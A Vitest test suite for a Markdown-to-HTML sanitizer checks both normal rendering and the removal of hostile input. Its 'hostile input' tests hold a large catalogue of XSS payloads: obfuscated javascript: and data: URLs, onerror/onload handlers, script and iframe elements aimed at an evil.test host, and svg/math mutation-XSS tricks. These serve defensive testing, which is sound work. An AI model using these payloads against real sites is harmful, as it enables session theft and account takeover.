import { describe, expect, it, vi } from "vitest";
import { renameHandlers, renderMarkdown } from "./markdown";

// Parses the output the way the page will, to assert on elements rather than
// on the exact string.
function dom(src: string): HTMLElement {
  const div = document.createElement("div");
  div.innerHTML = renderMarkdown(src);
  return div;
}

function allAttributes(root: HTMLElement): string[] {
  return Array.from(root.querySelectorAll("*")).flatMap((el) =>
    Array.from(el.attributes).map((a) => `${el.nodeName.toLowerCase()}[${a.name}=${a.value}]`),
  );
}

function hrefs(root: HTMLElement): (string | null)[] {
  return Array.from(root.querySelectorAll("a")).map((a) => a.getAttribute("href"));
}

describe("renderMarkdown: normal Markdown", () => {
  it("renders headings, emphasis, lists and code", () => {
    const root = dom(
      "# Title\n\n## Sub\n\nSome **bold** and _italic_ and `inline code`.\n\n- one\n- two\n\n1. first\n2. second\n\n```js\nconst x = 1 < 2;\n```\n",
    );
    expect(root.querySelector("h1")?.textContent).toBe("Title");
    expect(root.querySelector("h2")?.textContent).toBe("Sub");
    expect(root.querySelector("strong")?.textContent).toBe("bold");
    expect(root.querySelector("em")?.textContent).toBe("italic");
    expect(root.querySelector("p code")?.textContent).toBe("inline code");
    expect(Array.from(root.querySelectorAll("ul li")).map((l) => l.textContent)).toEqual(["one", "two"]);
    expect(Array.from(root.querySelectorAll("ol li")).map((l) => l.textContent)).toEqual(["first", "second"]);
    const code = root.querySelector("pre code");
    expect(code?.textContent).toBe("const x = 1 < 2;\n");
    expect(code?.getAttribute("class")).toBe("language-js");
  });

  it("keeps https and relative links, opening in a new tab without referrer", () => {
    const root = dom("[docs](https://example.com/docs?a=1) and [home](/workspaces) and <https://woow.io>");
    const links = Array.from(root.querySelectorAll("a"));
    expect(links.map((a) => a.getAttribute("href"))).toEqual([
      "https://example.com/docs?a=1",
      "/workspaces",
      "https://woow.io",
    ]);
    for (const a of links) {
      expect(a.getAttribute("target")).toBe("_blank");
      expect(a.getAttribute("rel")).toBe("noopener noreferrer");
    }
    expect(links[0].textContent).toBe("docs");
  });

  it("keeps mailto links and link titles", () => {
    const root = dom('[mail](mailto:ops@example.com "Write to us")');
    const a = root.querySelector("a")!;
    expect(a.getAttribute("href")).toBe("mailto:ops@example.com");
    expect(a.getAttribute("title")).toBe("Write to us");
  });

  it("renders GFM tables, strikethrough, blockquotes and task lists", () => {
    const root = dom(
      "| Name | Port |\n|:-----|-----:|\n| web | 8080 |\n\n~~old~~\n\n> quoted\n\n- [x] done\n- [ ] todo\n",
    );
    expect(root.querySelectorAll("table thead th")).toHaveLength(2);
    expect(root.querySelector("table tbody td")?.textContent).toBe("web");
    expect(root.querySelector("th")?.getAttribute("align")).toBe("left");
    expect(root.querySelector("del")?.textContent).toBe("old");
    expect(root.querySelector("blockquote p")?.textContent).toBe("quoted");
    expect(root.querySelector("input")).toBeNull();
    const items = Array.from(root.querySelectorAll("li")).map((l) => l.textContent?.trim());
    expect(items).toEqual(["☑ done", "☐ todo"]);
  });

  it("keeps https images, lazily loaded, without referrer", () => {
    const img = dom("![logo](https://example.com/logo.png)").querySelector("img")!;
    expect(img.getAttribute("src")).toBe("https://example.com/logo.png");
    expect(img.getAttribute("alt")).toBe("logo");
    expect(img.getAttribute("referrerpolicy")).toBe("no-referrer");
  });

  it("escapes text that looks like HTML inside code", () => {
    const root = dom("`<script>alert(1)</script>`");
    expect(root.querySelector("script")).toBeNull();
    expect(root.querySelector("code")?.textContent).toBe("<script>alert(1)</script>");
  });

  it("returns an empty string for empty input", () => {
    expect(renderMarkdown("")).toBe("");
  });
});

describe("renderMarkdown: hostile input", () => {
  it("removes script and style elements with their content", () => {
    const html = renderMarkdown("hi <script>window.__pwned = 1</script>\n\n<style>body{display:none}</style>\n\n<script src=//evil.test/x.js></script>");
    expect(html).not.toMatch(/<script|<style|__pwned|display:none|evil\.test/i);
    expect(html).toContain("hi");
  });

  it.each([
    ["[x](javascript:alert(1))"],
    ["[x](JaVaScRiPt:alert(1))"],
    ["[x](  javascript:alert(1))"],
    ["[x](&#106;avascript:alert(1))"],
    ["[x](&#x6A;avascript&#x3A;alert(1))"],
    ["[x](java&#x09;script:alert(1))"],
    ["[x](vbscript:msgbox(1))"],
    ['<a href="javascript:alert(1)">x</a>'],
    ['<a href="  JAVASCRIPT:alert(1)">x</a>'],
    ['<a href="java\nscript:alert(1)">x</a>'],
    ['<a href="java&#10;script:alert(1)">x</a>'],
    ['<a href="java&#x09;script:alert(1)">x</a>'],
    ['<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
    ['<a href="&#0000106avascript:alert(1)">x</a>'],
    ['<a href="\u0001javascript:alert(1)">x</a>'],
    ['<a href="vbscript:msgbox(1)">x</a>'],
    ["[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
    ['<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ['<a href="DATA:text/html,x">x</a>'],
    ["[x]: javascript:alert(1)\n\n[link][x]"],
    ["[x](jav&#x61;script:alert(1))"],
    ['<a href="jav&#x61;script:alert(1)">x</a>'],
    ['<a href="JaVaScRiPt:alert(1)">x</a>'],
    ["<https://ok.test> [x](jav&#97;script&colon;alert(1))"],
  ])("drops the dangerous URL in %s", (src) => {
    const root = dom(src);
    for (const href of hrefs(root)) {
      expect(href ?? "").not.toMatch(/script|data:|msgbox/i);
    }
    expect(renderMarkdown(src)).not.toMatch(/javascript:|vbscript:|data:text/i);
  });

  it("removes event-handler attributes", () => {
    const root = dom(
      '<img src="x" onerror="window.__pwned=1">\n\n<p onclick="window.__pwned=1" onmouseover="x()">p</p>\n\n<a href="https://ok.test" onfocus="x()" autofocus>a</a>\n\n<details open ontoggle="window.__pwned=1"><summary>s</summary></details>',
    );
    const attrs = allAttributes(root);
    expect(attrs.filter((a) => /\[on|autofocus/i.test(a))).toEqual([]);
    expect(root.querySelector("img")?.getAttribute("src")).toBe("x");
    expect(root.querySelector("a")?.getAttribute("href")).toBe("https://ok.test");
  });

  it("removes iframe, object, embed, form, input, base, meta and link elements", () => {
    const html = renderMarkdown(
      [
        '<iframe src="https://evil.test"></iframe>',
        '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
        '<object data="https://evil.test/x.swf"></object>',
        '<embed src="https://evil.test/x.swf">',
        '<form action="https://evil.test"><input name="password"><button>go</button></form>',
        '<base href="https://evil.test/">',
        '<meta http-equiv="refresh" content="0;url=https://evil.test">',
        '<link rel="stylesheet" href="https://evil.test/x.css">',
      ].join("\n\n"),
    );
    expect(html).not.toMatch(/<(iframe|object|embed|form|input|button|base|meta|link)\b/i);
    expect(html).not.toMatch(/evil\.test|srcdoc/i);
  });

  it("removes unquoted event handlers, as an AI answer might echo them", () => {
    const root = dom("Look: <img src=x onerror=alert(1)> and <b onmouseover=alert(1)>bold</b>");
    expect(allAttributes(root).filter((a) => /\[on/i.test(a))).toEqual([]);
    expect(root.querySelector("script")).toBeNull();
    expect(root.querySelector("b")?.textContent).toBe("bold");
  });

  it("keeps no script element from any spelling", () => {
    for (const src of ["<script>alert(1)</script>", "<SCRIPT SRC=//x.test/a.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>", "```\n</code><script>alert(1)</script>\n```"]) {
      const root = dom(src);
      expect(root.querySelector("script")).toBeNull();
    }
  });

  it("removes svg and math tricks", () => {
    const html = renderMarkdown(
      [
        '<svg onload="window.__pwned=1"><circle r="1"/></svg>',
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        '<svg><script>window.__pwned=1</script></svg>',
        '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1"></style></mglyph></table></mtext></math>',
        '<math href="javascript:alert(1)">x</math>',
        '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.__pwned=1 src>">',
        '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
      ].join("\n\n"),
    );
    expect(html).not.toMatch(/<(svg|math|script|style|mglyph|noscript)\b/i);
    expect(html).not.toMatch(/onload|onerror|javascript:/i);
  });

  it("removes style and id attributes and foreign classes", () => {
    const root = dom('<p style="position:fixed;inset:0" id="root" class="btn btn-danger">x</p>\n\n<span data-x="1" name="n">y</span>');
    expect(allAttributes(root)).toEqual([]);
  });

  it("keeps raster data images but no other data: sources", () => {
    const png = "data:image/png;base64,iVBORw0KGgo=";
    expect(dom(`![p](${png})`).querySelector("img")?.getAttribute("src")).toBe(png);
    for (const src of [
      "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
      "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
      "javascript:alert(1)",
    ]) {
      const img = dom(`<img src="${src}" alt="i">`).querySelector("img");
      expect(img?.getAttribute("src") ?? null).toBeNull();
    }
  });

  it("gives pasted raw links the same target and rel", () => {
    const a = dom('<a href="https://example.com" target="_self" rel="opener">x</a>').querySelector("a")!;
    expect(a.getAttribute("target")).toBe("_blank");
    expect(a.getAttribute("rel")).toBe("noopener noreferrer");
  });
});

describe("renderMarkdown: what DOMPurify parses", () => {
  it("holds no event-handler attribute (Chrome reports each as a CSP violation while parsing)", () => {
    const parse = vi.spyOn(DOMParser.prototype, "parseFromString");
    try {
      renderMarkdown('x <b onmouseover="a()">b</b> <img src=x onerror=alert(1)> <img/onload=a()>\n\n<p title="x"onclick=a() ONFOCUS=b()>p</p>');
      const inputs = parse.mock.calls.map((c) => String(c[0]));
      parse.mockRestore();
      expect(inputs.length).toBeGreaterThan(0);
      for (const html of inputs) {
        const doc = new DOMParser().parseFromString(html, "text/html");
        const names = Array.from(doc.querySelectorAll("*")).flatMap((el) => Array.from(el.attributes, (a) => a.name));
        expect(names.filter((n) => n.startsWith("on"))).toEqual([]);
      }
    } finally {
      parse.mockRestore();
    }
  });

  it("leaves text and code that only look like handlers alone", () => {
    expect(renameHandlers("<p>turn onion=3 on</p>")).toBe("<p>turn onion=3 on</p>");
    expect(renderMarkdown("`<b onclick=x>`")).toContain("&lt;b onclick=x&gt;");
    expect(renameHandlers('<a href="/x" title="on=1">y</a>')).toBe('<a href="/x" title="on=1">y</a>');
  });
});
